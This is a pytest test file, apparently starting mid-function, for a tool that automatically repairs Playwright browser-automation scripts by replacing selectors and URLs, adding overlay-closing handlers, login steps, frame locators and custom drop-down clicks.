            p.goto(params["base_url"] + "/catalog")
            more_button = p.locator("#more").first  # the list shows more only when asked
            p.locator("#p15 .price").or_(more_button).first.wait_for()
            for pressed in range(20):
                if p.locator("#p15 .price").count() or not (more_button.is_visible() and more_button.is_enabled()):
                    break
                more_button.click()
                try:
                    p.wait_for_selector("#p15 .price", state="attached", timeout=3000)
                except Exception:  # not in this batch: press again
                    pass
            # The 15th product's price.
            return p.inner_text("#p15 .price")
        """
    )
    assert check_generated_code(healed, original=code, allowed_domains=["shop.example.com"]) == []


def test_open_menu_before_hovers_or_clicks_the_opener_right_before_the_step():
    code = dedent(
        """
        def run(page, params):
            page.goto(params["base_url"])
            # Pricing lives in the Products menu now.
            page.click("role=link[name='Pricing']")
        """
    )
    hovered = open_menu_before(code, line=4, opener_selector='role=link[name="Products"s]', how="hover")
    assert hovered == code.replace(
        "    # Pricing", "    page.hover('role=link[name=\"Products\"s]')\n    # Pricing"
    )
    clicked = open_menu_before(code, line=4, opener_selector="#more", how="click")
    assert '    page.click("#more")\n    # Pricing' in clicked
    with pytest.raises(ValueError, match="hover or click"):
        open_menu_before(code, line=4, opener_selector="#more", how="dblclick")


# --------------------------------------------------------------------------- replace_url


def test_replace_url_in_a_concatenation_skips_the_params_key():
    line = line_of(CONTACT, "page.goto")
    new = replace_url(CONTACT, line=line, old_path="/contact", new_path="/contact-us")
    assert changed_lines(CONTACT, new) == [
        ('    page.goto(params["base_url"] + "/contact")',
         '    page.goto(params["base_url"] + "/contact-us")'),
    ]


def test_replace_url_in_an_absolute_literal_and_an_f_string():
    code = with_run(
        """
        page.goto('https://example.com/shop/cart?step=1')
        page.goto(f"{params['base_url']}/shop/{params['id']}/cart")
        """
    )
    new = replace_url(code, line=2, old_path="/shop/cart", new_path="/store/basket")
    assert "page.goto('https://example.com/store/basket?step=1')" in new
    new = replace_url(code, line=3, old_path="/shop", new_path="/store/{x}")
    assert "page.goto(f\"{params['base_url']}/store/{{x}}/{params['id']}/cart\")" in new
    assert ast.parse(new)


def test_replace_url_when_the_base_url_holds_the_leading_segments():
    # The run saw /demo-site/catalog → /demo-site/products; the code only spells "/catalog".
    code = with_run('page.goto(params["base_url"] + "/catalog")\n')
    new = replace_url(code, line=2, old_path="/demo-site/catalog", new_path="/demo-site/products")
    assert changed_lines(code, new) == [
        ('    page.goto(params["base_url"] + "/catalog")', '    page.goto(params["base_url"] + "/products")'),
    ]
    # The whole path wins when the code spells it; segments that differ are never dropped.
    code = with_run('page.goto("https://example.com/shop/catalog/all")\n')
    new = replace_url(code, line=2, old_path="/shop/catalog/all", new_path="/shop/products/all")
    assert 'page.goto("https://example.com/shop/products/all")' in new
    with pytest.raises(PatchError, match="not found"):
        replace_url(with_run('page.goto(params["base_url"] + "/all")\n'), line=2,
                    old_path="/shop/catalog/all", new_path="/shop/products/all")


def test_replace_url_respects_path_boundaries():
    code = with_run('page.goto(params["base_url"] + "/contacts")\n')
    with pytest.raises(PatchError, match="'/contact' not found in the goto URL on line 2"):
        replace_url(code, line=2, old_path="/contact", new_path="/x")


def test_replace_url_refuses_a_line_without_goto():
    with pytest.raises(PatchError, match="no goto call on line 9"):
        replace_url(CONTACT, line=9, old_path="/contact", new_path="/x")


# --------------------------------------------------------------------------- close_whenever_shown


def test_a_covering_layer_is_closed_by_a_handler_registered_once_at_the_top_of_run():
    new = close_whenever_shown(CONTACT, line=line_of(CONTACT, "get_by_role"), close_selector='role=button[name="Reject all"s]')
    handler = "    page.add_locator_handler(page.locator('role=button[name=\"Reject all\"s]'), lambda button: button.click())\n"
    assert f"def run(page, params):\n{handler}    # Open the contact form.\n" in new
    assert new.replace(handler, "") == CONTACT  # nothing else changed
    assert gate(new) == []


def test_the_handler_goes_below_the_docstring_of_the_function_with_the_failing_line():
    code = dedent('''
        def send(p):
            """Press send."""
            p.click("#send")


        def run(page, params):
            page.goto("https://example.com/")
            send(page)
    ''')
    new = close_whenever_shown(code, line=3, close_selector="#close")
    assert '    """Press send."""\n    p.add_locator_handler(p.locator("#close"), lambda button: button.click())\n' in new
    assert new.count("add_locator_handler") == 1


def test_a_recognisable_layer_is_searched_for_its_button_and_braces_stay_literal():
    new = close_whenever_shown(CONTACT, line=line_of(CONTACT, "get_by_role"), close_selector="[data-action='{close}']",
                               layer_selector="#consent")
    assert "page.add_locator_handler(page.locator(\"#consent\").locator(\"[data-action='{close}']\"), " in new
    assert gate(new) == []


def test_no_handler_for_a_one_line_function_or_a_step_on_another_page():
    with pytest.raises(PatchError, match="one line"):
        close_whenever_shown('def run(page, params): page.click("#a")\n', line=1, close_selector="#x")
    popup = with_run('other = page.context.new_page()\nother.click("#buy")\n')
    with pytest.raises(PatchError, match="does not act on `page`"):
        close_whenever_shown(popup, line=3, close_selector="#x")


def test_a_button_in_a_consent_frame_is_looked_for_in_that_frame():
    new = close_whenever_shown(CONTACT, line=line_of(CONTACT, "get_by_role"), close_selector="#reject",
                               frame_selector='iframe[title="Consent"]')
    assert "page.add_locator_handler(page.frame_locator('iframe[title=\"Consent\"]').locator(\"#reject\"), " in new
    assert gate(new) == []


def test_a_second_layer_is_registered_after_the_first_one_closed():
    # Playwright tries handlers in the order they were added, and the banner's button cannot be
    # clicked while the pop-up closed first still covers it.
    step = line_of(CONTACT, "get_by_role")
    first = close_whenever_shown(CONTACT, line=step, close_selector="#close", layer_selector="#newsletter")
    both = close_whenever_shown(first, line=line_of(first, "get_by_role"), close_selector="#reject", layer_selector="#consent")
    lines = both.splitlines()
    top = lines.index("def run(page, params):")
    assert "#newsletter" in lines[top + 1] and "#consent" in lines[top + 2]
    assert lines[top + 3] == "    # Open the contact form."
    assert gate(both) == []


def test_a_layer_already_closed_whenever_it_shows_is_a_patch_error():
    once = close_whenever_shown(CONTACT, line=line_of(CONTACT, "get_by_role"), close_selector="#close")
    with pytest.raises(PatchError, match="already closed"):
        close_whenever_shown(once, line=line_of(once, "get_by_role"), close_selector="#close")


# --------------------------------------------------------------------------- insert_login_steps


def test_insert_login_steps_reads_secrets_from_params():
    line = line_of(CONTACT, '"#name"')
    new = insert_login_steps(
        CONTACT,
        line=line,
        username_selector="#user",
        password_selector="input[type='password']",
        submit_selector='button:has-text("Log in")',
    )
    assert (
        '    page.goto(params["base_url"] + "/contact")\n'
        '    page.fill("#user", params["secrets"]["username"])\n'
        '    page.fill("input[type=\'password\']", params["secrets"]["password"])\n'
        "    page.click('button:has-text(\"Log in\")')\n"
        "    page.wait_for_load_state()\n"
        '    page.fill("#name", params["name"])   # odd spacing kept\n'
    ) in new
    assert gate(new) == []


def test_insert_login_steps_in_two_steps_clicks_next_between_user_name_and_password():
    code = with_run('page.click("#buy")\n')
    new = insert_login_steps(code, line=2, username_selector="#id", password_selector="#pw", submit_selector="#go",
                             next_selector="#next")
    assert (
        '    page.fill("#id", params["secrets"]["username"])\n    page.click("#next")\n'
        '    page.fill("#pw", params["secrets"]["password"])\n    page.click("#go")\n'
    ) in new
    assert gate(new, original=code) == []


def test_insert_login_steps_uses_custom_keys_and_parameter_names():
    code = with_run('page.click("#buy")\n').replace("run(page, params)", "run(p, args)")
    new = insert_login_steps(
        code, line=2, username_selector="#u", password_selector="#p", submit_selector="#go",
        username_key="email", password_key="pin",
    )
    assert 'p.fill("#u", args["secrets"]["email"])\n    p.fill("#p", args["secrets"]["pin"])' in new


def test_insert_login_steps_refuses_a_helper_without_params():
    code = "def login(page):\n    page.click('#a')\n\n\ndef run(page, params):\n    login(page)\n"
    with pytest.raises(PatchError, match="no params in scope on line 2"):
        insert_login_steps(code, line=2, username_selector="#u", password_selector="#p", submit_selector="#s")


ODD = '''\
"""Task: buy."""
# header comment
def run(page, params):
    try:
        with page.expect_navigation():
            page.click("#buy"); page.click('#confirm')  # two
    except Exception:  # keep
        page.locator \\
            ("#retry").click()
    page.fill("#q",  # inline comment
              params["q"])
    if page.is_visible("#banner"): page.click("#close")
'''


@pytest.mark.parametrize(
    "patch, expected_changes",
    [
        (lambda c: replace_selector(c, line=6, old_selector="#confirm", new_selector="#ok"),
         [("            page.click(\"#buy\"); page.click('#confirm')  # two",
           "            page.click(\"#buy\"); page.click('#ok')  # two")]),
        (lambda c: replace_selector(c, line=9, old_selector="#retry", new_selector="#again"),
         [('            ("#retry").click()', '            ("#again").click()')]),
        (lambda c: set_step_timeout(c, line=10, timeout_ms=5000),
         [('              params["q"])', '              params["q"], timeout=5000)')]),
        (lambda c: set_step_timeout(c, line=12, timeout_ms=5000),
         [('    if page.is_visible("#banner"): page.click("#close")',
           '    if page.is_visible("#banner"): page.click("#close", timeout=5000)')]),
    ],
)
def test_patches_keep_odd_formatting_and_comments(patch, expected_changes):
    assert changed_lines(ODD, patch(ODD)) == expected_changes


def test_insert_before_a_backslash_continued_statement_in_an_except_block():
    new = open_menu_before(ODD, line=8, opener_selector="#more", how="click")
    assert (
        "    except Exception:  # keep\n"
        '        page.click("#more")\n'
        "        page.locator \\\n"
    ) in new
    assert new.replace('        page.click("#more")\n', "") == ODD


FORM = '''def run(page, params):
    page.fill('#name', params["name"], strict=True)  # the form
    page.locator("#email", has_text="x").fill(params["email"])
    page.get_by_role("button", name="Send").click()
    page.wait_for_selector("#done")
'''


def test_a_step_moved_into_a_frame_finds_its_element_through_frame_locator():
    code = move_into_frame(FORM, line=2, old_selector="#name", frame_selector="#form", inner_selector="#name")
    code = move_into_frame(code, line=3, old_selector="#email", frame_selector="#form", inner_selector="#mail")
    code = move_into_frame(code, line=4, old_selector='get_by_role("button", name="Send")', frame_selector="#form",
                           inner_selector='role=button[name="Send"s]')
    assert code.splitlines()[1:4] == [
        "    page.frame_locator('#form').locator('#name').fill(params[\"name\"])  # the form",  # strict= is the page's
        '    page.frame_locator("#form").locator("#mail", has_text="x").fill(params["email"])',
        "    page.frame_locator(\"#form\").locator('role=button[name=\"Send\"s]').click()",
    ]
    with pytest.raises(PatchError):  # no Locator namesake: left to a person
        move_into_frame(code, line=5, old_selector="#done", frame_selector="#form", inner_selector="#done")


def test_a_step_already_in_a_frame_gets_both_of_its_selectors_replaced():
    code = '''def run(page, params):
    page.frame_locator("#form").locator("#name").fill("Ada")
'''
    moved = move_into_frame(code, line=2, old_selector="#form >> internal:control=enter-frame >> #name",
                            frame_selector='iframe[title="Contact"]', inner_selector="#full-name")
    assert moved.splitlines()[1] == "    page.frame_locator('iframe[title=\"Contact\"]').locator(\"#full-name\").fill(\"Ada\")"
    with pytest.raises(PatchError):
        move_into_frame(code, line=2, old_selector="#other >> internal:control=enter-frame >> #name",
                        frame_selector="#form", inner_selector="#x")


def test_a_step_in_a_frame_whose_element_changed_there_keeps_its_frame_locator():
    code = '''def run(page, params):
    form = page.frame_locator("#form")
    form.locator("#name").fill("Ada")
    form.get_by_role("button", name="Send").click()
'''
    code = move_into_frame(code, line=3, old_selector="#form >> internal:control=enter-frame >> #name",
                           frame_selector="#form", inner_selector="#full-name")
    code = move_into_frame(code, line=4, old_selector='#form >> internal:control=enter-frame >> internal:role=button[name="Send"i]',
                           frame_selector="#form", inner_selector="[data-testid=send]")
    assert code.splitlines()[2:] == ['    form.locator("#full-name").fill("Ada")', '    form.locator("[data-testid=send]").click()']


def test_a_select_option_becomes_two_clicks_on_the_drop_down_that_replaced_its_select():
    code = '''def run(page, params):
    # Where the parcel goes.
    page.select_option("#country", "DE")
    chosen = page.select_option("#size", "M")
    page.select_option("#gift", params["gift"])
'''
    new = choose_in_custom_select(code, line=3, old_value="DE", opener_selector="#country-button",
                                  option_selector='role=option[name="Germany"s]')
    assert new.splitlines()[1:4] == ["    # Where the parcel goes.", '    page.click("#country-button")',
                                     "    page.click('role=option[name=\"Germany\"s]')"]
    with pytest.raises(PatchError):  # its return value is used: two clicks do not give it
        choose_in_custom_select(code, line=4, old_value="M", opener_selector="#s", option_selector="#m")
    with pytest.raises(PatchError):  # the value comes from params: the person's choice, not a label to write down
        choose_in_custom_select(code, line=5, old_value="yes", opener_selector="#g", option_selector="#y")
